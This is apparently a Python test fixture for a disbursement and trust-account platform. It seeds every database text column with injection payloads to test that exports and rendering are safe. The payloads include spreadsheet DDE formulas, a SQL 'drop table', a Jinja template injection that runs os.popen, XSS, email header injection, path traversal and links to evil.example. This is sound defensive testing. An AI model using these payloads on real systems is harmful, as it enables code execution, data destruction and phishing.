"""Injection payloads that a user could type into the platform, and a company whose text columns contain them.

The text columns come from the ORM, so a new column is covered automatically; a new table needs an entry in
`ROW_BUILDERS`, and a test fails until it has one.
"""

import itertools
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from psycopg.errors import CheckViolation
from sqlalchemy import Text
from sqlalchemy.exc import IntegrityError

from seedtrust_ops.orchestration.schedules import office_today
from seedtrust_ops.tables import (
    CaseParty,
    DisbursementRequest,
    ErrorRecord,
    HuntingtonBatch,
    JobRun,
    LedgerEntry,
    PlatformTable,
    ReportRequest,
    User,
)
from seedtrust_ops.tables.user_text import UserText
from seedtrust_ops_tests.support.case_factory import CaseFactory, CaseWithParties
from seedtrust_ops_tests.support.factories import BuiltCase, Company

FORMATS = ("csv", "xlsx", "pdf")
_DUE = {"amount_cents": 100, "category": "travel", "auto_authorize_at": datetime.now(UTC)}
_numbers = itertools.count(1)

RENDERED_SUM = "1337"
"""The value of 7 * 191, which appears only if a template evaluates the payload."""


def payloads(canary: Path) -> list[str]:
    """Return the payloads: each starts with a spreadsheet formula, followed by an injection for another format.

    `canary` is a file that one of them would create.
    """
    sql = "'; drop table ops.alerts cascade; -- %s %(x)s :name \\"
    template = "{{ 7*191 }}{% set x = 1 %}${7*191}#{7*191}" + (
        f"{{{{ cycler.__init__.__globals__.os.popen('touch {canary}').read() }}}}"
    )
    html = '"><script>alert(1)</script><img src=x onerror=alert(1)><a href="javascript:alert(1)">pay</a>'
    markdown = "[pay](javascript:alert(1)) ![x](https://evil.example/x.png) `x` | cell |\n\n# Heading\n- <b>x"
    rich = "[red]red[/red] [link=https://evil.example]pay[/link] [/] [/b] [bold"
    header = "\r\nBcc: victim@evil.example\r\nSubject: other\r\n\r\nanother body\r\n.\r\nQUIT\r\n"
    terminal = "\x1b]0;owned\x07\x1b[2J\x1b[31m\x9b31mred\x08\x7f\u202egnp.exe"
    path = '../../../etc/passwd\\..\\x:"y"?*'
    pdf = ") Tj ET /JS (app.alert\\(1\\)) /URI (https://evil.example) {nb} BT ("
    workbook = "_x000D_ ]]> &amp; \x0b\x1f\ufffe"
    return [
        f'=HYPERLINK("https://evil.example/"&A1,"pay") {sql}',
        f"@SUM(1+1)*cmd|' /C calc'!A0 {template}",
        f"-2+3+cmd|' /C calc'!A0 {html}",
        f"\t=1+1 {markdown} {rich}",
        f"\r=1+1 {header}",
        f"+1+1 {terminal} {workbook}",
        f"{path} {pdf} {'x' * 2_000}",
    ]


@dataclass
class InsertedPayloads:
    """A company whose text columns contain the payloads, and the rows that tests check afterwards."""

    company: Company
    factory: CaseFactory
    case: BuiltCase
    batch_id: int
    approval_case: CaseWithParties
    """A case with every recipient of approval emails."""
    columns: set[str] = field(default_factory=set)
    constrained: set[str] = field(default_factory=set)
    """Columns that the platform's check constraints limit to certain values."""
    requests: list[int] = field(default_factory=list)


def insert_payloads(company: Company, texts: Iterable[str]) -> InsertedPayloads:
    """Insert a row for every text column of the platform's tables and each of `texts`, valid in all other columns."""
    case = company.case(balance_cents=10_000_000)
    factory = CaseFactory(company.sessions)
    inserted = InsertedPayloads(company, factory, case, company.batch(case=case), factory.case())
    _report_requests(inserted, {"kind": "case_ledger", "params": {"case_id": case.case_id}})
    for table in PlatformTable.metadata.sorted_tables:
        for column in (candidate for candidate in table.columns if isinstance(candidate.type, Text | UserText)):
            name = f"{table.name}.{column.name}"
            try:
                for text in texts:
                    ROW_BUILDERS[table.name](inserted, {column.name: text})
                inserted.columns.add(name)
            except IntegrityError as error:
                if not isinstance(error.orig, CheckViolation):
                    raise
                inserted.constrained.add(name)
    return inserted


def _user(inserted: InsertedPayloads, columns: dict[str, Any]) -> None:
    manager, payee = (
        inserted.factory._add(
            User(
                **{"email": f"{next(_numbers)}@office.test", "full_name": "Somebody", "role": role}
                | {name: f"{value}{suffix}" for name, value in columns.items()}
            )
        )
        for role, suffix in (("case_manager", ""), ("surrogate", " 2"))
    )
    case = inserted.factory.case(case_manager_id=manager, balance_cents=1, minimum_balance_cents=100)
    inserted.requests.append(inserted.factory.request(case, payee_id=payee))


def _case(inserted: InsertedPayloads, columns: dict[str, Any]) -> None:
    case = inserted.factory.case(balance_cents=1, minimum_balance_cents=100, close_on=office_today(), **columns)
    inserted.requests.append(inserted.factory.request(case))
    _report_requests(inserted, {"kind": "case_ledger", "params": {"case_id": case.case_id}})


def _party(inserted: InsertedPayloads, columns: dict[str, Any]) -> None:
    with inserted.company.sessions.begin() as session:
        session.add(CaseParty(case_id=inserted.case.case_id, user_id=inserted.case.payee_id, **columns))


def _request(inserted: InsertedPayloads, columns: dict[str, Any]) -> None:
    columns = {"case_id": inserted.approval_case.case_id, "payee_id": inserted.approval_case.surrogate_id} | columns
    inserted.requests.append(inserted.factory._add(DisbursementRequest(**_DUE | columns)))


def _rule(inserted: InsertedPayloads, columns: dict[str, Any]) -> None:
    inserted.factory.rule(**columns)


def _batch(inserted: InsertedPayloads, columns: dict[str, Any]) -> None:
    inserted.factory._add(HuntingtonBatch(**{"status": "completed"} | columns))


def _transaction(inserted: InsertedPayloads, columns: dict[str, Any]) -> None:
    request_id = inserted.company.request(inserted.case, 100)
    inserted.company.transaction(inserted.batch_id, request_id, 100, **{"method": "ach"} | columns)


def _entry(inserted: InsertedPayloads, columns: dict[str, Any]) -> None:
    for cents in (500, -500):
        defaults = {"account_id": inserted.case.account_id, "amount_cents": cents, "kind": "fee"}
        inserted.factory._add(LedgerEntry(**defaults | columns))


def _report_requests(inserted: InsertedPayloads, columns: dict[str, Any]) -> None:
    for format_name in FORMATS:
        defaults = {"user_id": inserted.case.specialist_id, "kind": "disbursements", "format": format_name}
        inserted.factory._add(ReportRequest(**defaults | columns))


def _report_request(inserted: InsertedPayloads, columns: dict[str, Any]) -> None:
    defaults = {"user_id": inserted.case.specialist_id, "kind": "account_balances", "format": "csv"}
    inserted.factory._add(ReportRequest(**defaults | columns))


def _job_run(inserted: InsertedPayloads, columns: dict[str, Any]) -> None:
    defaults = {
        "run_id": f"run-{next(_numbers)}",
        "task_name": "example",
        "status": "ERROR",
        "resolution": "ERROR",
        "queued_at": datetime.now(UTC),
    }
    inserted.factory._add(JobRun(**defaults | columns))


def _error(inserted: InsertedPayloads, columns: dict[str, Any]) -> None:
    defaults = {"source": "example", "severity": "LOW", "exception_type": "Failure", "message": "it failed"}
    inserted.factory._add(ErrorRecord(**defaults | columns))


ROW_BUILDERS: dict[str, Callable[[InsertedPayloads, dict[str, Any]], None]] = {
    "users": _user,
    "cases": _case,
    "case_parties": _party,
    "disbursement_requests": _request,
    "approval_rules": _rule,
    "huntington_batches": _batch,
    "huntington_transactions": _transaction,
    "ledger_entries": _entry,
    "report_requests": _report_request,
    "job_runs": _job_run,
    "errors": _error,
}
